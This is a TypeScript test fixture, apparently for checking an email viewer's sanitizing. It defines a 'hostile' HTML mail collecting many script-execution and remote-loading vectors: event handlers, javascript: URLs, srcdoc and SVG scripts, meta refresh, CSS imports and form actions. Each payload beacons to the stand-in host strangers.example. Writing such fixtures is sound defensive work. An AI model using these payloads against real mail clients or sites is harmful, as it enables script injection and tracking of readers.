/** The hosts that the hostile mail tries to reach. The second has the pictures. */
export const strangers: ReadonlySet<string> = new Set(['strangers.example', 'pictures.example']);

const ran = (by: string) =>
  `document.documentElement.dataset.ran='${by}';new Image().src='https://strangers.example/ran?${by}'`;

/** A mail with every known way to run a script, load a file, leave the page or stay after the mail. */
export const hostileMail = `<!doctype html>
<html onclick="${ran('html')}">
<head>
<meta http-equiv="refresh" content="0; url=https://strangers.example/refresh">
<meta http-equiv="refresh" content="0; url=/templates">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<base href="https://strangers.example/" target="_top">
<link rel="stylesheet" href="https://strangers.example/style.css">
<link rel="prefetch" href="https://strangers.example/prefetch">
<link rel="preload" as="script" href="https://strangers.example/preload.js">
<link rel="manifest" href="https://strangers.example/manifest">
<style>
@import url("https://strangers.example/imported.css");
@font-face { font-family: stranger; src: url("https://strangers.example/font.woff2"); }
body { font-family: stranger, sans-serif; background-image: url("https://pictures.example/background.png"); }
p { background-image: url("http://strangers.example/plain.png"); }
#named:target, input:hover { background-image: url("http://strangers.example/hovered.png"); }
</style>
<script>${ran('script')}</script>
<script src="https://strangers.example/script.js"></script>
<script type="module">${ran('module')}</script>
<title>Hostile</title>
</head>
<body onload="${ran('load')}" background="http://strangers.example/attribute.png">
<img src="https://pictures.example/picture.png" alt="">
<img src="http://strangers.example/plain-picture.png" alt="" onerror="${ran('error')}">
<img src="data:image/png;base64,bm9uZQ==" alt="" onerror="${ran('error')}">
<p><a href="https://strangers.example/link" ping="https://strangers.example/ping">Link</a>
<a href="https://strangers.example/top" target="_top">Top</a>
<a href="https://strangers.example/new" target="_blank" rel="opener">New window</a>
<a href="javascript:${ran('link')}">Script link</a></p>
<svg width="90" height="20" onload="${ran('svg')}">
<script>${ran('svg-script')}</script>
<image href="https://pictures.example/drawn.png" width="1" height="1"/>
<use href="https://strangers.example/drawing.svg#part"/>
<a xlink:href="javascript:${ran('drawn')}" target="_top"><text y="15">Drawn link</text></a>
<animate attributeName="x" onbegin="${ran('animate')}"/>
<foreignObject><iframe src="https://strangers.example/drawn-frame"></iframe></foreignObject>
</svg>
<iframe src="https://strangers.example/frame"></iframe>
<iframe src="/config.json"></iframe>
<iframe srcdoc="<script>${ran('framed').replaceAll("'", '&#39;')}</script>"></iframe>
<iframe src="javascript:${ran('frame-link')}"></iframe>
<object data="https://strangers.example/object"></object>
<embed src="https://strangers.example/embed">
<video src="https://strangers.example/video" autoplay poster="http://strangers.example/poster.png"></video>
<audio src="https://strangers.example/audio" autoplay></audio>
<form action="https://strangers.example/form" method="post" target="_top" onsubmit="${ran('submit')}">
<input name="q" autofocus onfocus="${ran('focus')}">
<button>Send</button>
<button formaction="https://strangers.example/elsewhere" formtarget="_blank">Send elsewhere</button>
<button type="button" onclick="${ran('pressed')}">Press</button>
</form>
<details ontoggle="${ran('toggled')}"><summary>Open</summary>opened</details>
<marquee onstart="${ran('marquee')}"></marquee>
<template shadowrootmode="open"><script>${ran('shadow')}</script></template>
<p id="named">The end</p>
</body>
</html>
`;
